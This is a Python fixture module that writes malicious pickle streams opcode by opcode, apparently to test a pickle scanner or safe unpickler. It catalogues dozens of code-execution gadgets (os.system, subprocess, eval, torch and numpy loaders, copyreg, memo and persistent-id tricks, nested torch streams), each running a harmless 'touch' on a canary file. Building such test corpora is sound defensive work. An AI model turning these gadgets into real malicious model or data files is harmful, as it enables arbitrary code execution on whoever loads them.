"""Pickles that would run code if anything loaded them with Python's own unpickler.

Each would create the canary file or call something that an audit hook sees. They are written opcode by opcode, so that
no library refuses to write them.
"""

from __future__ import annotations

import struct
from collections.abc import Iterator

Globals = tuple[str, str]


def text(value: str) -> bytes:
    raw = value.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def blob(value: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(value)) + value


def named(name: Globals) -> bytes:
    return f"c{name[0]}\n{name[1]}\n".encode()


def stacked(name: Globals) -> bytes:
    return text(name[0]) + text(name[1]) + b"\x93"


def gadgets(canary: str) -> dict[str, tuple[Globals, list[bytes]]]:
    """Callables with the arguments that make them harmful."""
    touch = f"touch '{canary}'"
    code = f"open({canary!r}, 'w').close()"
    return {
        "os.system": (("os", "system"), [text(touch)]),
        "posix.system": (("posix", "system"), [text(touch)]),
        "os.popen": (("os", "popen"), [text(touch)]),
        "os.execv": (("os", "execv"), [text("/bin/touch"), b"]" + text("touch") + b"a" + text(canary) + b"a"]),
        "os.mkdir": (("os", "mkdir"), [text(canary)]),
        "subprocess.call": (("subprocess", "call"), [text(touch), b"K\x00", b"N", b"N", b"N", b"N", b"N", b"\x88"]),
        "subprocess.Popen": (("subprocess", "Popen"), [text(touch), b"K\x00", b"N", b"N", b"N", b"N", b"N", b"\x88"]),
        "subprocess.getoutput": (("subprocess", "getoutput"), [text(touch)]),
        "builtins.eval": (("builtins", "eval"), [text(code)]),
        "builtins.exec": (("builtins", "exec"), [text(code)]),
        "__builtin__.eval": (("__builtin__", "eval"), [text(code)]),
        "builtins.open": (("builtins", "open"), [text(canary), text("w")]),
        "io.open": (("io", "open"), [text(canary), text("w")]),
        "builtins.compile": (("builtins", "compile"), [text(code), text("x"), text("exec")]),
        "builtins.__import__": (("builtins", "__import__"), [text("antigravity")]),
        "importlib.import_module": (("importlib", "import_module"), [text("antigravity")]),
        "pkgutil.resolve_name": (("pkgutil", "resolve_name"), [text("os:system")]),
        "runpy.run_path": (("runpy", "run_path"), [text(canary)]),
        "code.interact": (("code", "InteractiveInterpreter"), []),
        "timeit.timeit": (("timeit", "timeit"), [text(code)]),
        "cProfile.run": (("cProfile", "run"), [text(code)]),
        "pdb.run": (("pdb", "run"), [text(code)]),
        "bdb.Bdb": (("bdb", "Bdb.run"), [b"N", text(code)]),
        "doctest.debug_script": (("doctest", "debug_script"), [text(code)]),
        "ctypes.CDLL": (("ctypes", "CDLL"), [text("libc.so.6")]),
        "webbrowser.open": (("webbrowser", "open"), [text("http://127.0.0.1")]),
        "urllib": (("urllib.request", "urlopen"), [text("http://127.0.0.1:9")]),
        "socket": (("socket", "create_connection"), [text("127.0.0.1")]),
        "shutil.copy": (("shutil", "copy"), [text("/etc/hostname"), text(canary)]),
        "pathlib.touch": (("pathlib", "Path.touch"), [text(canary)]),
        "pip": (("pip", "main"), [b"]" + text("download") + b"a"]),
        "logging.config": (("logging.config", "fileConfig"), [text(canary)]),
        "pickle.loads": (("pickle", "loads"), [blob(named(("os", "system")) + b"(" + text(touch) + b"tR.")]),
        "_pickle.loads": (("_pickle", "loads"), [blob(named(("os", "system")) + b"(" + text(touch) + b"tR.")]),
        "marshal.loads": (("marshal", "loads"), [blob(b"\xe3")]),
        "operator.attrgetter": (("operator", "attrgetter"), [text("system")]),
        "operator.methodcaller": (("operator", "methodcaller"), [text("system"), text(touch)]),
        "functools.partial": (("functools", "partial"), [named(("os", "system")), text(touch)]),
        "functools.reduce": (("functools", "reduce"), [named(("os", "system")), b"]" + text(touch) + b"a"]),
        "builtins.getattr": (("builtins", "getattr"), [named(("os", "path")), text("os")]),
        "builtins.map": (("builtins", "map"), [named(("os", "system")), b"]" + text(touch) + b"a"]),
        "torch.load": (("torch", "load"), [text(canary)]),
        "torch.hub.load": (("torch.hub", "load"), [text("owner/repo"), text("model")]),
        "torch.jit.load": (("torch.jit", "load"), [text(canary)]),
        "torch.utils.cpp_extension": (("torch.utils.cpp_extension", "load_inline"), [text("x"), text("int x;")]),
        "torch._inductor": (("torch._inductor.codecache", "PyCodeCache.load"), [text(code)]),
        "torch.fx": (("torch.fx.graph_module", "_forward_from_src"), [text(f"def forward(self): {code}"), b"}"]),
        "torch.distributed": (("torch.distributed.rpc.internal", "_run_function"), [blob(b"x")]),
        "torch.serialization": (("torch.serialization", "_legacy_load"), [blob(b"x")]),
        "numpy.load": (("numpy", "load"), [text(canary), b"N", b"\x88"]),
        "numpy.memmap": (("numpy", "memmap"), [text(canary), text("u1"), text("w+"), b"K\x00", b"K\x01"]),
        "numpy.testing": (("numpy.testing._private.utils", "runstring"), [text(code), b"}"]),
        "numpy.f2py": (("numpy.f2py.crackfortran", "getlincoef"), [text(code), b"}"]),
        "onnx.hub": (("onnx.hub", "load"), [text("x")]),
        "types.CodeType": (("types", "CodeType"), [b"K\x00"] * 6),
        "types.FunctionType": (("types", "FunctionType"), [b"N", b"}"]),
    }


def bodies(canary: str) -> Iterator[tuple[str, bytes]]:
    """Yield (name, opcodes that leave one value on the stack), without header and STOP."""
    known = gadgets(canary)
    for name, (callee, arguments) in known.items():
        yield name, named(callee) + b"(" + b"".join(arguments) + b"tR"
    system, touch = ("os", "system"), text(f"touch '{canary}'")
    yield "stack global", stacked(system) + b"(" + touch + b"tR"
    yield "memo trick", named(system) + b"q\x010h\x01(" + touch + b"tR"
    yield "duplicate", named(system) + b"20(" + touch + b"tR"
    yield "new object", named(("subprocess", "Popen")) + b"(" + touch + b"t\x81"
    yield "new object with names", named(("subprocess", "Popen")) + b"(" + touch + b"t}" + text("shell") + b"\x88s\x92"
    yield "object", b"(" + named(("subprocess", "Popen")) + touch + b"o"
    yield "instance", b"(" + touch + b"ios\nsystem\n"
    yield "dotted name", stacked(("os.path", "os.system")) + b"(" + touch + b"tR"
    yield "set state", named(("logging.config", "DictConfigurator")) + b")\x81}" + text("x") + touch + b"sb"
    yield "set item", named(("os", "environ")) + text("PWNED") + touch + b"s"
    yield "extension", b"\x82\x01"
    yield "persistent id", touch + b"Q"
    yield "persistent module", b"(" + text("module") + named(system) + text("x.py") + touch + b"tQ"
    yield "nested file", named(("torch.storage", "_load_from_bytes")) + b"(" + blob(nested(canary)) + b"tR"
    yield "persistence source", persistence(canary)
    yield (
        "copyreg",
        named(("copyreg", "_reconstructor")) + b"(" + named(("subprocess", "Popen")) + named(system) + touch + b"tR",
    )
    yield "callable record", named(("functools", "partial")) + b"(" + named(system) + touch + b"tR)R"
    yield (
        "tensor arguments",
        named(("torch._utils", "_rebuild_tensor_v2")) + b"(" + named(system) + b"(" + touch + b"tRtR",
    )
    yield "set of calls", named(("builtins", "set")) + b"(]" + named(system) + b"(" + touch + b"tRatR"


def nested(canary: str) -> bytes:
    """A legacy torch stream whose object calls `os.system`."""
    magic = b"\x80\x02\x8a\x0a\x6c\xfc\x9c\x46\xf9\x20\x6a\xa8\x50\x19."
    version = b"\x80\x02M\xe9\x03."
    system = b"\x80\x02}X\x0d\x00\x00\x00little_endian\x88s."
    call = b"\x80\x02" + named(("os", "system")) + b"(" + text(f"touch '{canary}'") + b"tR."
    return magic + version + system + call + b"\x80\x02]."


def persistence(canary: str) -> bytes:
    """What NVlabs' tools write: the network's source text, which their loader runs."""
    entries = {"type": "class", "module_src": f"open({canary!r}, 'w').close()", "class_name": "Generator"}
    meta = b"}(" + b"".join(text(key) + text(value) for key, value in entries.items())
    meta += text("version") + b"K\x06" + text("state") + b"}u"
    return named(("torch_utils.persistence", "_reconstruct_persistent_obj")) + b"(" + meta + b"tR"
